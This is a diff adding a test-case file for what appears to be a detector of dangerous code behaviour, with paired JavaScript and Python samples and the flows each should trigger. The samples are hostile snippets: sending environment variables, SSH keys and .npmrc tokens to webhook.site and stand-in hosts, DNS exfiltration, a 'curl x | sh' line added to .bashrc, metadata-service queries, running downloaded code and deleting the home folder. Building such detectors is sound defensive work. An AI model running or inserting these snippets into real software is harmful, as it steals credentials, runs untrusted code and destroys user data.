@@ -1,2 +1,161 @@
 import type { ConformanceCase } from "./harness.ts";
-export const PLACE_CASES: ConformanceCase[] = [];
+
+/** What an API acts on decides what its use amounts to. */
+export const PLACE_CASES: ConformanceCase[] = [
+  {
+    name: "the whole environment is sent",
+    programs: {
+      javascript: `fetch("https://webhook.site/x", { method: "POST", body: JSON.stringify(process.env) });`,
+      python: `import os, requests\nrequests.post("https://webhook.site/x", json=dict(os.environ))`,
+    },
+    flows: [
+      {
+        from: "read.environment",
+        to: "network.send",
+        source: "*",
+        destination: "https://webhook.site/x",
+      },
+    ],
+  },
+  {
+    name: "the whole environment inside something else is sent",
+    programs: {
+      javascript: `const e = process.env; fetch("https://h.example", { body: JSON.stringify({ a: { ...e } }) });`,
+      python: `import os, requests\ne = os.environ\nrequests.post("https://h.example", json={"a": {**e}})`,
+    },
+    flows: [{ from: "read.environment", to: "network.send", source: "*" }],
+  },
+  {
+    name: "one harmless variable is not the environment",
+    programs: {
+      javascript: `const e = process.env; fetch("https://h.example", { body: e.LANG });`,
+      python: `import os, requests\ne = os.environ\nrequests.post("https://h.example", data=e["LANG"])`,
+    },
+    flows: [{ from: "read.environment", to: "network.send", source: "LANG" }],
+    noFlows: [{ from: "read.credential", to: "network.send" }],
+  },
+  {
+    name: "a variable whose name is put together",
+    programs: {
+      javascript: `fetch("https://h.example", { body: process.env["NPM" + "_" + "TOKEN"] });`,
+      python: `import os, requests\nrequests.post("https://h.example", data=os.environ["NPM" + "_" + "TOKEN"])`,
+    },
+    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
+  },
+  {
+    name: "a key in the home folder",
+    programs: {
+      javascript: `const fs = require("fs"), os = require("os"), path = require("path"); fetch("https://h.example", { body: fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8") });`,
+      python: `import os, requests\nrequests.post("https://h.example", data=open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read())`,
+    },
+    flows: [{ from: "read.credential", to: "network.send", source: "~/.ssh/id_rsa" }],
+  },
+  {
+    name: "a file is read and handed to a callback",
+    programs: {
+      javascript: `require("fs").readFile("/home/u/.npmrc", "utf8", (e, d) => { require("https").request({ hostname: "h.example", method: "POST" }).end(d); });`,
+      python: `import http.client\nd = open("/home/u/.npmrc").read()\nc = http.client.HTTPSConnection("h.example")\nc.request("POST", "/", body=d)`,
+    },
+    flows: [
+      {
+        from: "read.credential",
+        to: "network.send",
+        source: "/home/u/.npmrc",
+        destination: "h.example",
+      },
+    ],
+  },
+  {
+    name: "an ordinary file is no credential",
+    programs: {
+      javascript: `const t = require("fs").readFileSync("package.json", "utf8"); console.log(t);`,
+      python: `t = open("setup.cfg").read()\nprint(t)`,
+    },
+    capabilities: [{ capability: "read.file" }],
+    noCapabilities: ["read.credential", "network.send"],
+  },
+  {
+    name: "the start of a shell is written",
+    programs: {
+      javascript: `require("fs").appendFileSync(process.env.HOME + "/.bashrc", "curl x | sh");`,
+      python: `import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl x | sh")`,
+    },
+    capabilities: [{ capability: "write.startup", target: "~/.bashrc" }],
+  },
+  {
+    name: "the next step of a job gets a variable",
+    programs: {
+      javascript: `require("fs").appendFileSync(process.env.GITHUB_ENV, "BASH_ENV=/tmp/x");`,
+      python: `import os\nopen(os.environ["GITHUB_ENV"], "a").write("BASH_ENV=/tmp/x")`,
+    },
+    capabilities: [{ capability: "write.ci" }],
+  },
+  {
+    name: "the metadata service is asked",
+    programs: {
+      javascript: `fetch("http://169.254.169.254/latest/meta-data/iam/");`,
+      python: `from urllib.request import urlopen\nurlopen("http://169.254.169.254/latest/meta-data/iam/")`,
+    },
+    capabilities: [{ capability: "read.metadata" }],
+  },
+  {
+    name: "what was downloaded is run as code",
+    programs: {
+      javascript: `fetch("https://h.example/p").then((r) => r.text()).then((t) => eval(t));`,
+      python: `import requests\nexec(requests.get("https://h.example/p").text)`,
+    },
+    flows: [{ from: "network.receive", to: "execute.code", source: "https://h.example/p" }],
+  },
+  {
+    name: "what a connection receives is run as code",
+    programs: {
+      javascript: `require("https").get("https://h.example/p", (res) => { let b = ""; res.on("data", (c) => { b += c; }); res.on("end", () => { eval(b); }); });`,
+      python: `import urllib.request\nwith urllib.request.urlopen("https://h.example/p") as res:\n    b = ""\n    for c in res:\n        b += c.decode()\nexec(b)`,
+    },
+    flows: [{ from: "network.receive", to: "execute.code", source: "https://h.example/p" }],
+  },
+  {
+    name: "a socket is given what the machine is called",
+    programs: {
+      javascript: `const s = require("net").connect(4444, "h.example"); s.write(require("os").hostname());`,
+      python: `import socket\ns = socket.create_connection(("h.example", 4444))\ns.sendall(socket.gethostname().encode())`,
+    },
+    flows: [{ from: "read.host", to: "network.send", destination: "h.example" }],
+  },
+  {
+    name: "data leaves by the name of a host",
+    programs: {
+      javascript: "require('dns').lookup(`${process.env.NPM_TOKEN}.h.example`, () => {});",
+      python: `import os, socket\nsocket.gethostbyname(os.environ["NPM_TOKEN"] + ".h.example")`,
+    },
+    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
+  },
+  {
+    name: "a file is downloaded, made executable and started",
+    programs: {
+      javascript: `const fs = require("fs"); fetch("https://h.example/b").then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync("/tmp/b", b); fs.chmodSync("/tmp/b", 0o755); require("child_process").spawn("/tmp/b"); });`,
+      python: `import os, requests, subprocess\nopen("/tmp/b", "wb").write(requests.get("https://h.example/b").content)\nos.chmod("/tmp/b", 0o755)\nsubprocess.Popen(["/tmp/b"])`,
+    },
+    flows: [{ from: "network.receive", to: "write.file", destination: "/tmp/b" }],
+    capabilities: [
+      { capability: "write.executable", target: "/tmp/b" },
+      { capability: "execute.process", target: "/tmp/b" },
+    ],
+  },
+  {
+    name: "everything is deleted",
+    programs: {
+      javascript: `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`,
+      python: `import shutil, os\nshutil.rmtree(os.path.expanduser("~"))`,
+    },
+    capabilities: [{ capability: "destroy.files", target: "~" }],
+  },
+  {
+    name: "native code is loaded",
+    programs: {
+      javascript: `process.dlopen({ exports: {} }, "./x.node");`,
+      python: `import ctypes\nctypes.CDLL("./x.so")`,
+    },
+    capabilities: [{ capability: "execute.native", target: "./x." }],
+  },
+];
